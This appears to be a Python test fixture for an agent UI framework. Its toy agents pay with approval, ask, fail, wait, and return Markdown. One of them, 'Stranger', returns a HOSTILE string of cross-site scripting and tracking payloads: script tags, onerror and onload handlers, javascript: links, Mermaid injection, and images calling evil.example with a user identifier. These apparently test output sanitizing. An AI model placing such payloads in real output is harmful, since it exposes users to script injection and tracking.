"""An application whose agents do what somebody looks at: the built-in team, and some that ask, wait, fail and write."""

import asyncio
from pathlib import Path

from netra_apex import AgentRegistry, BaseAgent, ask_user, demo, tool

PLACE = Path(__file__).parent
TEXT = """# A report

A paragraph with **strong** words, `code`, and [a link](https://example.org/).

## A table

| region | requests | cost |
| --- | ---: | ---: |
| Europe | 1,204 | $3.10 |
| America, North and South together | 988 | $2.75 |

## Some code

```python
def cost(requests: int, price: float) -> float:
    # What it comes to, in a line that is longer than a narrow screen is wide, as lines of code are.
    return requests * price if requests else 0.0
```

> What was quoted.

1. First this,
2. then that.

```mermaid
xychart-beta
    title "Requests a day"
    x-axis [Mon, Tue, Wed, Thu]
    y-axis "requests" 0 --> 100
    bar [20, 60, 80, 40]
```
"""
HOSTILE = """Look: ![a tracker](https://evil.example/pixel.png?who=ada)
and ![inline](data:image/svg+xml;base64,PHN2Zy8+).

<script>window.pwned = "script"</script>

<img src="https://evil.example/raw.png" onerror="window.pwned = 'onerror'">

<iframe src="https://evil.example/frame"></iframe>
<svg onload="window.pwned = 'svg'"></svg>
<style>body { background: url(https://evil.example/style.png) }</style>

[click me](javascript:window.pwned='link') [or me](data:text/html,<script>window.pwned='data'</script>)
[and][ref] <https://evil.example/autolink>

[ref]: javascript:window.pwned='reference'

```mermaid
graph TD
    A["<img src=https://evil.example/mermaid.png onerror=window.pwned='mermaid'>"] --> B
    click A href "javascript:window.pwned='mermaid-link'"
    click B call alert()
```

```mermaid
%%{init: {"themeCSS": "* { background: url(https://evil.example/theme.png) }", "securityLevel": "loose"}}%%
graph TD
    A --> B
    classDef bad fill:url(https://evil.example/fill.png)
    class A bad
```

$x<img src=https://evil.example/math.png>$

The end of it.
"""


@tool(needs_approval=True)
async def pay(amount: int) -> str:
    """Pays."""
    return f"paid {amount}"


class Payer(BaseAgent):
    """Asks how much, and pays it if it may."""

    name = "payer"

    async def run(self, task, scope):
        return await scope.tools.call(pay, int(await scope.tools.call(ask_user, "How much?")))


class Buyer(BaseAgent):
    """Pays twelve if it may."""

    name = "buyer"

    async def run(self, task, scope):
        return await scope.tools.call(pay, 12)


class Writer(BaseAgent):
    """Writes a report."""

    name = "writer"

    async def run(self, task, scope):
        return TEXT


class Stranger(BaseAgent):
    """Passes on what a page from elsewhere would have it say."""

    name = "stranger"

    async def run(self, task, scope):
        return HOSTILE


class Failing(BaseAgent):
    """Does not manage it."""

    name = "failing"

    async def run(self, task, scope):
        raise RuntimeError("out of order")


class Waiting(BaseAgent):
    """Waits until it is let go."""

    name = "waiting"

    async def run(self, task, scope):
        while not (PLACE / "go").exists():  # noqa: ASYNC110 - another process makes the file
            await asyncio.sleep(0.02)
        return "gone on"


registry = AgentRegistry(
    [demo.Assistant, demo.CostAnalysis, Payer, Buyer, Writer, Stranger, Failing, Waiting], default="assistant"
)
